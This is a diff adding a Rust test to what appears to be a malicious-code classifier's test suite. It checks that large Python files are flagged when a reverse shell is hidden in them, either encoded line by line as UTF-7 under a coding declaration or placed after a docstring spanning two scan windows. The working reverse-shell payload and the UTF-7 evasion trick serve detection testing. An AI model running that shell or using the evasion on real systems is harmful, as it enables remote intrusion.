@@ -109,6 +109,65 @@ fn classify_scores_a_long_file_in_windows_and_finds_code_in_its_middle() {
 }
 
 #[test]
+fn classify_reads_a_long_file_whole_as_python_does_before_cutting_windows() {
+    let dir = tempfile::tempdir().unwrap();
+    let handlers = |tag: &str, bytes: usize| {
+        let mut text = String::new();
+        let mut i = 0;
+        while text.len() < bytes {
+            text.push_str(&format!(
+                "def handler_{tag}_{i}(request):\n    return request.get(\"key_{i}\")\n\n"
+            ));
+            i += 1;
+        }
+        text
+    };
+    let shell = "import socket, pty, os\nsock = socket.create_connection((\"127.0.0.1\", 4444))\n\
+                 for fd in (0, 1, 2):\n    os.dup2(sock.fileno(), fd)\npty.spawn(\"/bin/bash\")\n";
+    // Each line of the shell as one UTF-7 run, in the middle of a file that declares UTF-7 on
+    // its first line: Python decodes all of it, so the windows are cut from the decoded text.
+    let utf7 = |line: &str| {
+        const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let units: Vec<u8> = line.encode_utf16().flat_map(u16::to_be_bytes).collect();
+        let mut run = String::from("+");
+        for chunk in units.chunks(3) {
+            let n =
+                chunk.iter().fold(0u32, |n, &b| n << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
+            for i in 0..=chunk.len() {
+                run.push(B64[(n >> (18 - 6 * i) & 63) as usize] as char);
+            }
+        }
+        run + "-\n"
+    };
+    let declared = format!(
+        "# -*- coding: utf-7 -*-\n{}{}{}",
+        handlers("a", 1_500_000),
+        shell.lines().map(utf7).collect::<String>(),
+        handlers("b", 1_500_000)
+    );
+    // A docstring across the second window's start (960 KiB), the shell after it past the end
+    // of the first window (1 MiB): the second window starts after the docstring, not in it.
+    let mut across = handlers("a", (960 << 10) - 300);
+    across.push_str("NOTES = \"\"\"\n");
+    while across.len() < (1 << 20) + 500 {
+        across.push_str("notes on the handlers and their requests\n");
+    }
+    across.push_str("\"\"\"\n");
+    across.push_str(shell);
+    across.push_str(&handlers("b", 2_000_000));
+    let paths = [dir.path().join("declared.py"), dir.path().join("across.py")];
+    std::fs::write(&paths[0], &declared).unwrap();
+    std::fs::write(&paths[1], &across).unwrap();
+    let (rows, out) = classify_json(&[&paths[0], &paths[1]]);
+    assert!(out.status.success(), "{out:?}");
+    for row in &rows {
+        assert_eq!(row["malicious"], true, "{row}");
+        assert!(row["reasons"].to_string().contains("dup2"), "{row}");
+        assert!(row["windows"].as_u64().unwrap() >= 3, "{row}");
+    }
+}
+
+#[test]
 fn classify_scores_the_end_of_a_large_file_too() {
     // A reverse shell after 9 MiB of ordinary code: the start alone is benign, the end is not.
     let dir = tempfile::tempdir().unwrap();
